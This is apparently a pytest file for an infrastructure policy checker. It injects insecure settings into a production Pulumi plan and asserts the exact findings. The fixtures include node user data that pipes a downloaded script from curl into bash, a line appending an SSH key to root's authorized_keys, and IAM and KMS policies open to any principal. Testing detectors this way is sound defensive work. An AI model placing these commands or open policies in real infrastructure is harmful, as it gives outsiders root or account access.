"""Issue 22, classes 2, 3 and 6: IAM and resource policies, node exposure, and Karpenter's fail-closed rules.

Several members of each class go into prod's REAL plan at once, members the issue names and members it
does not (a user policy, an S3 bucket policy, an SNS topic policy, a launch template's network
interface, a security-group id pattern...), and every finding is asserted exactly.
"""

from __future__ import annotations

import base64
import json

from harness import plan_config, stack_config
from test_policies_faults import findings, prod_document, step
from test_policies_pod_security import add

from components.core.node_user_data import nodeadm_user_data, node_config_with

IAM_RULES = ("iam-wildcard-actions", "iam-passrole-scoped", "policy-public-principal",
             "karpenter-controller-policy-reference", "workload-identity-bound")
POLICY = "aws:iam/policy:Policy"
ROLE = "aws:iam/role:Role"
NODE_CLASS = "kubernetes:karpenter.k8s.aws/v1:EC2NodeClass"
NODE_POOL = "kubernetes:karpenter.sh/v1:NodePool"
KARPENTER = "urn:pulumi:prod::servestack::servestack:index:ServingEnvironment$servestack:karpenter:Karpenter$"


def of(document, rules):
    return [(f[0], f[2], f[3]) for f in findings(document) if f[0] in rules]


def edit_policy(inputs, key, change):
    document = json.loads(inputs[key])
    change(document)
    inputs[key] = json.dumps(document)


def test_iam_documents_as_a_class():
    document = prod_document()
    lifecycle = step(document, POLICY, "servestack-karpenter-nodelifecycle")["inputs"]
    edit_policy(lifecycle, "policy", lambda d: d["Statement"].append(
        {"Sid": "AllowScopedDeletion", "Effect": "Allow", "Action": ["ec2:*", "iam:PassRole"], "Resource": "*"}))
    edit_policy(step(document, "aws:sqs/queuePolicy:QueuePolicy", "servestack-karpenter-interruption")["inputs"], "policy",
                lambda d: d["Statement"][0].update(Principal="*"))
    step(document, "aws:kms/key:Key", "servestack-cluster-secrets")["inputs"]["policy"] = json.dumps({"Statement": [
        {"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "kms:*", "Resource": "*"}]})
    identity = step(document, "aws:eks/podIdentityAssociation:PodIdentityAssociation", "servestack-karpenter-controller")
    identity["inputs"].update(namespace="models", serviceAccount="default")
    chat = step(document, ROLE, "servestack-endpoint-chat-model-reader")["inputs"]
    chat["assumeRolePolicy"] = chat["assumeRolePolicy"].replace("models:chat-model", "models:*")
    fraud = step(document, ROLE, "servestack-endpoint-fraud-model-reader")["inputs"]
    edit_policy(fraud, "assumeRolePolicy", lambda d: d["Statement"][0].pop("Condition"))
    # Members the issue does not name: a user policy, an SNS topic policy, an inline policy on Karpenter's role.
    add(document, "aws:iam/userPolicy:UserPolicy", "ci", {"user": "ci", "policy": json.dumps({"Statement": [
        {"Effect": "Allow", "Action": ["s3:Put*", "iam:Pass*"], "Resource": "*"}]})})
    add(document, "aws:sns/topicPolicy:TopicPolicy", "alerts", {"arn": "arn:aws:sns:us-east-1:123456789012:alerts",
        "policy": {"Statement": [{"Effect": "Allow", "NotPrincipal": {"AWS": "arn:aws:iam::123456789012:root"},
                                  "Action": "sns:Publish", "Resource": "*"}]}})
    role_urn = f"{KARPENTER}{ROLE}::servestack-karpenter-controller"
    urn = f"{KARPENTER}aws:iam/rolePolicy:RolePolicy::extra"
    document["steps"].append({"op": "create", "urn": urn, "newState": {
        "type": "aws:iam/rolePolicy:RolePolicy", "urn": urn, "propertyDependencies": {"role": [role_urn]},
        "inputs": {"role": "servestack-karpenter-controller", "policy": json.dumps({"Statement": [
            {"Effect": "Allow", "Action": "sqs:SendMessage", "Resource": "arn:aws:sqs:us-east-1:123456789012:q"}]})}}})
    assert of(document, IAM_RULES) == [
        ('iam-passrole-scoped', 'ci',
         'policy: statement 0 allows iam:Pass* on * without an iam:PassedToService condition; required: the '
         'ARNs of the roles it passes and the service it passes them to, because passing any role to any '
         'service is becoming that role'
        ),
        ('iam-passrole-scoped', 'servestack-karpenter-nodelifecycle',
         'policy: statement 6 allows iam:PassRole on * without an iam:PassedToService condition; required: the'
         ' ARNs of the roles it passes and the service it passes them to, because passing any role to any '
         'service is becoming that role'
        ),
        ('iam-wildcard-actions', 'ci',
         'policy: statement 0 allows s3:Put*, iam:Pass* on every resource; allowed: named actions on named '
         'resources (or on * only for actions that take no resource), because a service wildcard grows with '
         'every action AWS adds'
        ),
        ('iam-wildcard-actions', 'servestack-karpenter-nodelifecycle',
         'policy: statement 6 allows ec2:* on every resource; allowed: named actions on named resources (or on'
         ' * only for actions that take no resource), because a service wildcard grows with every action AWS '
         'adds'
        ),
        ('karpenter-controller-policy-reference', 'servestack-karpenter-nodelifecycle',
         'KarpenterControllerNodeLifecyclePolicy-servestack-prod: AllowScopedDeletion applies to every '
         "resource (*); Karpenter's reference policy NodeLifecyclePolicy scopes it"
        ),
        ('karpenter-controller-policy-reference', 'servestack-karpenter-nodelifecycle',
         'KarpenterControllerNodeLifecyclePolicy-servestack-prod: AllowScopedDeletion grants ec2:*, '
         "iam:PassRole beyond Karpenter's reference policy NodeLifecyclePolicy (ec2:DeleteLaunchTemplate, "
         'ec2:TerminateInstances)'
        ),
        ('karpenter-controller-policy-reference', 'extra',
         "Karpenter's controller role servestack-karpenter-controller: policy is not one of Karpenter's "
         "reference policies; allowed: Karpenter's reference policies only, because the controller already "
         'launches and terminates instances'
        ),
        ('policy-public-principal', 'alerts',
         'policy: statement 0 allows sns:Publish to every principal but those of NotPrincipal without a '
         'condition; required: named principals, or a condition (aws:SourceArn, aws:SourceAccount, '
         'aws:PrincipalOrgID...) that limits who'
        ),
        ('policy-public-principal', 'servestack-cluster-secrets',
         'policy: statement 0 allows kms:* to Principal * (anyone, any account) without a condition; required:'
         ' named principals, or a condition (aws:SourceArn, aws:SourceAccount, aws:PrincipalOrgID...) that '
         'limits who'
        ),
        ('policy-public-principal', 'servestack-karpenter-interruption',
         'policy: statement 0 allows sqs:SendMessage to Principal * (anyone, any account) without a condition;'
         ' required: named principals, or a condition (aws:SourceArn, aws:SourceAccount, '
         'aws:PrincipalOrgID...) that limits who'
        ),
        ('workload-identity-bound', 'servestack-endpoint-chat-model-reader',
         'assumeRolePolicy statement 0 admits system:serviceaccount:models:* (StringEquals): a pattern, not '
         'one service account; required: StringEquals on exactly one'
        ),
        ('workload-identity-bound', 'servestack-endpoint-fraud-model-reader',
         'assumeRolePolicy statement 0 lets any service account of the cluster assume the role (no :sub '
         'condition); required: StringEquals on system:serviceaccount:<namespace>:<name>'
        ),
        ('workload-identity-bound', 'servestack-karpenter-controller',
         'binds role arn:aws:iam::123456789012:role/servestack-karpenter-controller-3157688 to models/default,'
         " the namespace's default service account; required: the workload's own service account, because "
         'every pod that names none runs as default and would get the role'
        ),
    ]


EXPOSURE_RULES = ("node-no-public-ip", "nodeclass-selectors-scoped", "node-user-data-reviewed",
                  "karpenter-disruption-budget", "karpenter-nodepool-instance-types")


def test_node_exposure_and_karpenter_fail_closed_as_classes():
    document = prod_document()
    gpu = step(document, NODE_CLASS, "servestack-karpenter-gpu-nodeclass")["inputs"]["spec"]
    gpu.update(associatePublicIPAddress=True, subnetSelectorTerms=[{"tags": {"kubernetes.io/role/elb": "1"}}],
               securityGroupSelectorTerms=[{"tags": {"Name": "*"}}, {"id": "sg-*"}],
               userData="#!/bin/bash\ncurl -s https://example.com/setup.sh | bash\n")
    step(document, NODE_CLASS, "servestack-karpenter-llm-nodeclass")["inputs"]["spec"]["subnetSelectorTerms"] = [{}]
    system = step(document, "aws:ec2/launchTemplate:LaunchTemplate", "servestack-pools-system")["inputs"]
    system["networkInterfaces"] = [{"deviceIndex": 0, "associatePublicIpAddress": "true"}]
    system["userData"] = base64.b64encode(b"#!/bin/bash\necho ssh-ed25519 AAAA >> /root/.ssh/authorized_keys\n").decode()
    step(document, NODE_POOL, "servestack-karpenter-gpu-nodepool")["inputs"]["spec"]["disruption"] = {
        "consolidationPolicy": "WhenEmptyOrUnderutilized", "consolidateAfter": "0s", "budgets": [{"nodes": "100%"}]}
    step(document, NODE_POOL, "servestack-karpenter-neuron-nodepool")["inputs"]["spec"]["disruption"]["budgets"] = [
        {"nodes": "1", "schedule": "0 9 * * mon-fri", "duration": "8h"}]
    llm = step(document, NODE_POOL, "servestack-karpenter-llm-nodepool")["inputs"]["spec"]["template"]["spec"]
    llm["requirements"] = [{"key": "karpenter.k8s.aws/instance-family", "operator": "NotIn", "values": ["t3"]},
                           {"key": "karpenter.sh/capacity-type", "operator": "In", "values": ["on-demand"]}]
    assert of(document, EXPOSURE_RULES) == [
        ('karpenter-disruption-budget', 'servestack-karpenter-gpu-nodepool',
         'spec.disruption.consolidateAfter is 0s with consolidationPolicy WhenEmptyOrUnderutilized: Karpenter '
         'repacks (evicting serving pods) as soon as load dips; required: at least 300s, or WhenEmpty as '
         'servestack renders'
        ),
        ('karpenter-disruption-budget', 'servestack-karpenter-gpu-nodepool',
         'spec.disruption: for Drifted nodes the budget allows 100% of the nodes at once; required: a budget '
         'without a schedule of at most 50% (or a node count), because each disrupted node evicts the serving '
         'pods on it'
        ),
        ('karpenter-disruption-budget', 'servestack-karpenter-gpu-nodepool',
         'spec.disruption: for Underutilized nodes the budget allows 100% of the nodes at once; required: a '
         'budget without a schedule of at most 50% (or a node count), because each disrupted node evicts the '
         'serving pods on it'
        ),
        ('karpenter-disruption-budget', 'servestack-karpenter-neuron-nodepool',
         'spec.disruption: for Drifted nodes no always-active budget applies; required: a budget without a '
         'schedule of at most 50% (or a node count), because each disrupted node evicts the serving pods on it'
        ),
        ('karpenter-nodepool-instance-types', 'servestack-karpenter-llm-nodepool',
         'spec.template.spec.requirements do not bound the instance types (requirements: '
         'karpenter.k8s.aws/instance-family NotIn, karpenter.sh/capacity-type In); required: '
         'node.kubernetes.io/instance-type or karpenter.k8s.aws/instance-family or karpenter.k8s.aws/instance-'
         'category with operator In and named values, because otherwise Karpenter may launch any instance type'
         ' AWS offers, at any price'
        ),
        ('node-no-public-ip', 'servestack-karpenter-gpu-nodeclass',
         'spec.associatePublicIPAddress is true: every instance launched from it gets a public address, '
         'reachable from the internet whatever its subnet; allowed: false (nodes reach out through the NAT '
         'gateways)'
        ),
        ('node-no-public-ip', 'servestack-pools-system',
         'networkInterfaces[0].associatePublicIpAddress is true: every instance launched from it gets a public'
         ' address, reachable from the internet whatever its subnet; allowed: false (nodes reach out through '
         'the NAT gateways)'
        ),
        ('node-user-data-reviewed', 'servestack-karpenter-gpu-nodeclass',
         'spec.userData is set; servestack renders none for Karpenter nodes (Karpenter writes the bootstrap '
         'itself), so any user data is a change to review: it runs as root on every node of the pool'
        ),
        ('node-user-data-reviewed', 'servestack-pools-system',
         'userData differs from what servestack renders: its parts are text/plain (servestack writes one '
         'application/node.eks.aws part); any other user data runs as root on every node at boot (SSH keys, '
         'curl | bash), so it is flagged for review'
        ),
        ('nodeclass-selectors-scoped', 'servestack-karpenter-gpu-nodeclass',
         'spec.securityGroupSelectorTerms[0].tags Name=* matches every security group that has a Name tag; '
         "required: terms naming this cluster's own private security groups (servestack selects "
         'karpenter.sh/discovery=<cluster>), so that nodes never land in a public subnet or behind a security '
         'group another workload opened'
        ),
        ('nodeclass-selectors-scoped', 'servestack-karpenter-gpu-nodeclass',
         'spec.securityGroupSelectorTerms[1].id sg-* is a pattern, not one security group; required: terms '
         "naming this cluster's own private security groups (servestack selects "
         'karpenter.sh/discovery=<cluster>), so that nodes never land in a public subnet or behind a security '
         'group another workload opened'
        ),
        ('nodeclass-selectors-scoped', 'servestack-karpenter-gpu-nodeclass',
         'spec.subnetSelectorTerms[0].tags selects kubernetes.io/role/elb (the public subnets that internet-'
         "facing load balancers use); required: terms naming this cluster's own private subnets (servestack "
         'selects karpenter.sh/discovery=<cluster>), so that nodes never land in a public subnet or behind a '
         'security group another workload opened'
        ),
        ('nodeclass-selectors-scoped', 'servestack-karpenter-llm-nodeclass',
         'spec.subnetSelectorTerms[0] is empty, which matches every subnet in the account; required: terms '
         "naming this cluster's own private subnets (servestack selects karpenter.sh/discovery=<cluster>), so "
         'that nodes never land in a public subnet or behind a security group another workload opened'
        ),
    ]


def test_custom_ami_user_data_is_servestacks_nodeadm_config_and_nothing_else():
    config = stack_config("prod")
    config["servestack:nodePools"]["fpga"].update(provisioner="managed", minSize=2)
    document = plan_config(config, "prod").document
    assert of(document, EXPOSURE_RULES) == []
    template = step(document, "aws:ec2/launchTemplate:LaunchTemplate", "servestack-pools-fpga")["inputs"]
    rendered = base64.b64decode(template["userData"]).decode()
    boundary = "--//SERVESTACK-NODEADM//--"
    script = "--//SERVESTACK-NODEADM//\nContent-Type: text/x-shellscript\n\n#!/bin/bash\ncurl -s http://x | bash\n\n"
    template["userData"] = base64.b64encode(rendered.replace(boundary, script + boundary).encode()).decode()
    flags = ["--node-labels=servestack.io/pool=fpga", "--max-pods=250"]
    extra = nodeadm_user_data(node_config_with("servestack-prod", "https://x", "Y2E=", "172.20.0.0/16", flags))
    add(document, "aws:ec2/launchTemplate:LaunchTemplate", "other", {"userData": base64.b64encode(extra.encode()).decode()})
    assert of(document, EXPOSURE_RULES) == [
        ('node-user-data-reviewed', 'other',
         'userData differs from what servestack renders: its kubelet flags include --max-pods=250 (servestack '
         'writes --node-labels=, --register-with-taints= once each); any other user data runs as root on every'
         ' node at boot (SSH keys, curl | bash), so it is flagged for review'
        ),
        ('node-user-data-reviewed', 'servestack-pools-fpga',
         'userData differs from what servestack renders: its parts are application/node.eks.aws, '
         'text/x-shellscript (servestack writes one application/node.eks.aws part); any other user data runs '
         'as root on every node at boot (SSH keys, curl | bash), so it is flagged for review'
        ),
    ]
